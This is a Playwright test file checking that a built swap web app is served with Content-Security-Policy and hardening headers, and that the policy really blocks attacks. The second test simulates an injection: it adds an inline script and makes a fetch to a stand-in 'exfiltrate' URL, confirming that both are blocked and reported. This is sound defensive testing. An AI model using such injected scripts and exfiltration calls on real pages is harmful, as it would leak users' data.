// The built app is served with the security headers its build wrote (dist/_headers), and the policy
// really binds the page: what it does not allow is blocked and reported (the fixture fails any other
// journey on such a report).
import { expect, test } from '../src/fixtures';

test('the app is served with its Content-Security-Policy and hardening headers', async ({
  page,
}) => {
  const response = await page.goto('/swap');
  const headers = response?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  // Lists from any https host (spec 000); a devnet build also reaches this machine on any port,
  // over http and, for newHeads, ws. Plain http anywhere else is not allowed.
  const connect = policy.match(/connect-src ([^;]*)/)?.[1]?.split(' ') ?? [];
  expect(connect).toEqual(
    expect.arrayContaining(["'self'", 'https:', 'http://127.0.0.1:*', 'ws://127.0.0.1:*']),
  );
  expect(
    connect.filter(
      (source) => source.startsWith('http://') && !/127\.0\.0\.1|localhost/.test(source),
    ),
  ).toEqual([]);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  // The same policy also travels in index.html for hosts without headers; only frame-ancestors,
  // which a meta tag cannot carry, is left out there.
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(meta).toBe(policy.replace("; frame-ancestors 'none'", ''));
  // The app runs under it: the page renders and (the fixture checks) breaks none of its rules.
  await expect(page.getByRole('heading', { name: 'Swap', level: 1 })).toBeVisible();
});

test('the policy blocks injected scripts and plain-http calls off this machine, and says so', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/swap');
  const outcome = await page.evaluate(async () => {
    // What an injection would try: an inline script, and sending data to a host of its choice
    // (https hosts are open to lists by URL, so script-src is what keeps injected code out).
    const script = document.createElement('script');
    script.textContent = 'window.injectedScriptRan = true;';
    document.head.append(script);
    const ran = (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan === true;
    const fetched = await fetch('http://example.com/exfiltrate').then(
      () => 'sent',
      () => 'blocked',
    );
    return { ran, fetched };
  });
  expect(outcome).toEqual({ ran: false, fetched: 'blocked' });
  // Each is reported twice: the page is under two equal policies, the header and index.html's
  // meta tag (for hosts that cannot set headers), and each policy reports what it blocks.
  await expect
    .poll(() => cspViolations.map((violation) => violation.directive).sort())
    .toEqual(['connect-src', 'connect-src', 'script-src-elem', 'script-src-elem']);
  // Provoked on purpose: the fixture must not fail this test for them.
  cspViolations.length = 0;
});
